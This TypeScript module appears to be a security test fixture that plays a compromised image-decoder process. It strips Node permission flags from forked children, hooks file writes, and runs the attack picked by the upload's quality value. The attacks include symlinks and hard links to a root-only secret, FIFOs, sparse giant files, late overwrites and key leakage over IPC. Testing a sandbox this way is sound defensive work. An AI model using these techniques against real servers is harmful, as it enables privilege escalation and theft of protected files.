/**
 * What somebody does who has taken a decoder over by a flaw in its native code. Preloaded (`--import`) into a server, it
 * frees the decoders of Node's permission model, which native code does not obey, and gets itself loaded into them. In a
 * decoder it acts in the place where a result is written: with the rights that the process has there, and with all that it
 * knows. The quality that an upload asks for chooses the attack, and what came of it goes into a report.
 */
import children, { execFileSync, type ForkOptions } from 'node:child_process';
import fs, { constants } from 'node:fs';
import { syncBuiltinESMExports } from 'node:module';
import { dirname, join } from 'node:path';

const settings = new URL(import.meta.url).searchParams;
const secret = settings.get('secret') ?? '';
const report = settings.get('report') ?? '';

function say(line: string): void {
  fs.appendFileSync(report, `${line}\n`);
}

/** @returns whether it went well */
function tried(what: string, step: () => void): boolean {
  try {
    step();
    say(`${what}: done`);
    return true;
  } catch (error) {
    say(`${what}: ${(error as NodeJS.ErrnoException).code}`);
    return false;
  }
}

/** Every folder around a result that a decoder may know of. */
const around = (output: string) => [dirname(output), 'in', '.', '..', '../..', process.cwd(), dirname(process.cwd())];

type Attack = (output: string, bytes: Buffer, write: () => void) => void;

/** Puts something else in the place of a result; writes a result where that cannot be done. */
const instead =
  (what: string, make: (output: string) => void): Attack =>
  (output, _bytes, write) => {
    tried(`${what}: room`, () => fs.rmSync(output, { force: true }));
    if (!tried(what, () => make(output))) write();
  };

export const ATTACKS = {
  /** The result is a link to what only root may read. */
  link: instead('link', (output) => fs.symlinkSync(secret, output)),
  hardLink: instead('hard link', (output) => fs.linkSync(secret, output)),
  /** Whoever opens it waits for somebody who writes. */
  pipe: instead('pipe', (output) => execFileSync('mkfifo', [output])),
  folder: instead('folder', (output) => fs.mkdirSync(output)),
  /** The result takes no room on the disk, and a terabyte where it is copied. */
  giant: (output, _bytes, write) => {
    write();
    tried('giant', () => fs.ftruncateSync(fs.openSync(output, constants.O_WRONLY), 1_000_000_000_000));
  },
  /** The result is less than what is said of it. */
  short: (output, bytes) => {
    tried('short', () => fs.writeSync(fs.openSync(output, 'w'), bytes, 0, 100));
  },
  /** The result is changed when it has been taken. */
  later: (output, bytes) => {
    const descriptor = fs.openSync(output, 'w');
    fs.writeSync(descriptor, bytes);
    setTimeout(() => tried('later', () => fs.writeSync(descriptor, Buffer.from('SPOILED'), 0, 7, 0)), 300);
  },
  /** What an upload is unpacked into is a link to what only root may write. */
  upload: (output, _bytes, write) => {
    write();
    for (const folder of around(output)) {
      tried(`look into ${folder}`, () => {
        const uploads = fs.readdirSync(folder).filter((name) => /^upload-[^.]*$/.test(name));
        for (const name of uploads) fs.symlinkSync(secret, join(folder, `${name}-unpacked`));
      });
    }
  },
  /** The answer says more than a decoder has to say: where the picture is. */
  key: (_output, _bytes, write) => {
    write();
    const send = process.send as (message: unknown) => boolean;
    process.send = (message: { result?: { result?: object } }) => {
      Object.assign(message.result?.result ?? {}, { key: settings.get('key') });
      process.send = send;
      return send.call(process, message);
    };
  },
} satisfies Record<string, Attack>;

if (process.argv[1]?.includes('decoder-process')) {
  let attack: Attack | undefined;
  process.on('message', ({ params }: { params?: [string, string, { quality: number }] }) => {
    attack = Object.values(ATTACKS)[(params?.[2]?.quality ?? 0) - 1];
  });
  const write = fs.writeFileSync;
  fs.writeFileSync = (output, bytes, ...more) => {
    const wanted = () => write(output, bytes, ...more);
    const now = attack;
    attack = undefined;
    if (!now) return wanted();
    say(`user ${process.getuid?.()}`);
    now(String(output), bytes as Buffer, wanted);
  };
  syncBuiltinESMExports();
} else if (secret) {
  const { fork } = children;
  const isFree = (flag: string) => !/^--(permission|allow-)/.test(flag);
  children.fork = ((file: string, words: string[], { execArgv = [], ...options }: ForkOptions) =>
    fork(file, words, {
      ...options,
      execArgv: [...execArgv.filter(isFree), `--import=${import.meta.url}`],
    })) as typeof fork;
}
